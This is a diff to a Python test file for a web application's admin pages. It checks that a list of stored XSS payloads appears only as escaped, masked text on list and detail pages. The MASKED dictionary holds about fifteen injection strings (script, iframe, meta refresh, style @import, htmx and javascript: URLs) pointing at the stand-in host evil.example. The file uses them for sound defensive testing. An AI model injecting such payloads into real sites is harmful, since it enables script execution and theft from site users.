@@ -13,6 +13,7 @@ import uuid
 from collections.abc import Iterator
 from dataclasses import dataclass
 from datetime import timedelta
+from html import escape
 from pathlib import Path
 from typing import Any
 from urllib.parse import quote, urlsplit
@@ -329,10 +330,44 @@ def origin_of(html: str) -> str:
     return found.get_text()
 
 
-def missing(texts: list[str]) -> list[str]:
-    """Payloads that stand on none of these pages as they were written, or with the address in them masked."""
+# What the law of masks leaves of those payloads that hold an address or an @name, written out by hand: a place and dots, or dots.
+MASKED: dict[str, str] = {
+    "<SCRIPT SRC=//evil.example/3.js></SCRIPT>": "<SCRIPT SRC=//evil.example/••••",
+    "<img src=//evil.example/10.png>": "<img src=//evil.example/••••",
+    "<iframe src=//evil.example/20></iframe>": "<iframe src=//evil.example/••••",
+    "<object data=//evil.example/21></object>": "<object data=//evil.example/••••",
+    "<embed src=//evil.example/22>": "<embed src=//evil.example/••••",
+    "<base href=//evil.example/23/>": "<base href=//evil.example/••••",
+    "<meta http-equiv=refresh content='0;url=//evil.example/24'>": "<meta http-equiv=refresh content='0;url=//evil.example/••••",
+    "<link rel=stylesheet href=//evil.example/25.css>": "<link rel=stylesheet href=//evil.example/••••",
+    "<style>@import '//evil.example/26.css';</style>": "<style>•••• '//evil.example/••••",
+    "<form action=//evil.example/38><button>x</button></form>": "<form action=//evil.example/••••",
+    "<a href=//evil.example/43 target=_blank>x</a>": "<a href=//evil.example/•••• target=_blank>x</a>",
+    "<div x-data @mouseover=alert(45)>x</div>": "<div x-data ••••=alert(45)>x</div>",
+    "<div hx-get=//evil.example/46 hx-trigger=load></div>": "<div hx-get=//evil.example/•••• hx-trigger=load></div>",
+    '" style=background:url(//evil.example/56) x="': '" style=background:url(//evil.example/•••• x="',
+    "JaVaScRiPt://%0aalert(60)": "%0aalert(60)",
+}
+
+
+def missing(texts: list[str], *, masked: bool = True, wanted: tuple[str, ...] = ALL) -> list[str]:
+    """Payloads that stand on none of these pages as they must: letter by letter, but for what is MASKED where the page masks."""
     together = "\n".join(written(html) for html in texts)
-    return [payload for payload in ALL if payload not in together and masks.text(payload) not in together]
+    return [one for one in wanted if (MASKED.get(one, one) if masked else one) not in together]
+
+
+def test_a_payload_that_is_dropped_or_changed_is_missed() -> None:
+    """The control of `missing`, each payload alone: gone, cut, masked where it must not be, and not masked where it must be."""
+    page = "<p>" + "</p>\n<p>".join(escape(MASKED.get(one, one)) for one in ALL) + "</p>"
+    assert (missing([page]), missing([page], masked=False)) == ([], list(MASKED))
+    open_page = "<p>" + "</p>\n<p>".join(map(escape, ALL)) + "</p>"
+    apart = [one for one, shown in MASKED.items() if shown not in one]
+    assert (missing([open_page]), missing([open_page], masked=False)) == (apart, [])
+    assert len(apart) == len(MASKED) - 1
+    for one in ALL:
+        shown = MASKED.get(one, one)
+        for changed in ("", masks.MIDDLE, shown[:-1], shown[1:]):
+            assert missing([page.replace(f"<p>{escape(shown)}</p>", f"<p>{escape(changed)}</p>")]) == [one]
 
 
 # --- every page, taken apart ------------------------------------------------------------------------
@@ -369,12 +404,12 @@ def test_authors_origins_and_addresses_are_masked_and_text_for_whoever_does_not_
 @pytest.mark.parametrize(
     ("role", "name", "parts"),
     [
-        (Role.ANALYST, "patrol_case_changelist", "full"),
-        (Role.ADMINISTRATOR, "patrol_watch_changelist", "full"),
-        (Role.ADMINISTRATOR, "patrol_person_changelist", "full"),
-        (Role.REGISTRAR, "patrol_agency_changelist", "full"),
-        (Role.REGISTRAR, "patrol_licence_changelist", "full"),
-        (Role.REGISTRAR, "patrol_registeredition_changelist", "full"),
+        (Role.ANALYST, "patrol_case_changelist", "masked"),
+        (Role.ADMINISTRATOR, "patrol_watch_changelist", "masked"),
+        (Role.ADMINISTRATOR, "patrol_person_changelist", "exact"),
+        (Role.REGISTRAR, "patrol_agency_changelist", "exact"),
+        (Role.REGISTRAR, "patrol_licence_changelist", "exact"),
+        (Role.REGISTRAR, "patrol_registeredition_changelist", "exact"),
         (Role.ADMINISTRATOR, "patrol_office_changelist", ""),
         (Role.ADMINISTRATOR, "patrol_auditentry_changelist", ""),
         (Role.ANALYST, "patrol_flag_changelist", ""),
@@ -390,7 +425,8 @@ def test_authors_origins_and_addresses_are_masked_and_text_for_whoever_does_not_
 def test_lists_hold_no_trace(role: Role, name: str, parts: str, world: World) -> None:
     pages = dict(every_page(entered(world, role), address(name)))
     assert {url: faults(html) for url, html in pages.items() if faults(html)} == {}
-    assert missing(list(pages.values())) == [] or not parts
+    if parts:
+        assert missing(list(pages.values()), masked=parts == "masked") == []
 
 
 @pytest.mark.parametrize("what", ["case", "watch", "edit", "agency", "indicator"])
@@ -403,7 +439,7 @@ def test_pages_of_one_thing_hold_no_trace(what: str, world: World) -> None:
         "edit": [address("patrol_watch_edit", watch.pk) for watch in world.watches],
         "agency": [
             address("patrol_agency_change", pk)
-            for pk in models.Agency.objects.filter(edition=world.edition).values_list("pk", flat=True)
+            for pk in models.Agency.objects.filter(edition=world.edition).order_by("pk").values_list("pk", flat=True)
         ],
         "indicator": [
             address("patrol_indicator_change", one.pk) for one in models.Indicator.objects.order_by("pk")[:80]
@@ -411,7 +447,12 @@ def test_pages_of_one_thing_hold_no_trace(what: str, world: World) -> None:
     }[what]
     pages = {url: text_of(client.get(url)) for url in urls}
     assert {url: faults(html) for url, html in pages.items() if faults(html)} == {}
-    assert missing(list(pages.values())) == [] or what == "indicator"
+    masked = what in {"case", "watch"}
+    if what != "indicator":  # the page of each shows its own, not only all pages together all of them
+        lost = [missing([shown], masked=masked, wanted=(one,)) for shown, one in zip(pages.values(), ALL, strict=True)]
+        assert [one for found in lost for one in found] == []
+    if what == "case":
+        assert missing([pages[urls[0]]]) == []  # the one with all messages
 
 
 @pytest.mark.parametrize("page", ["edition", "print"])
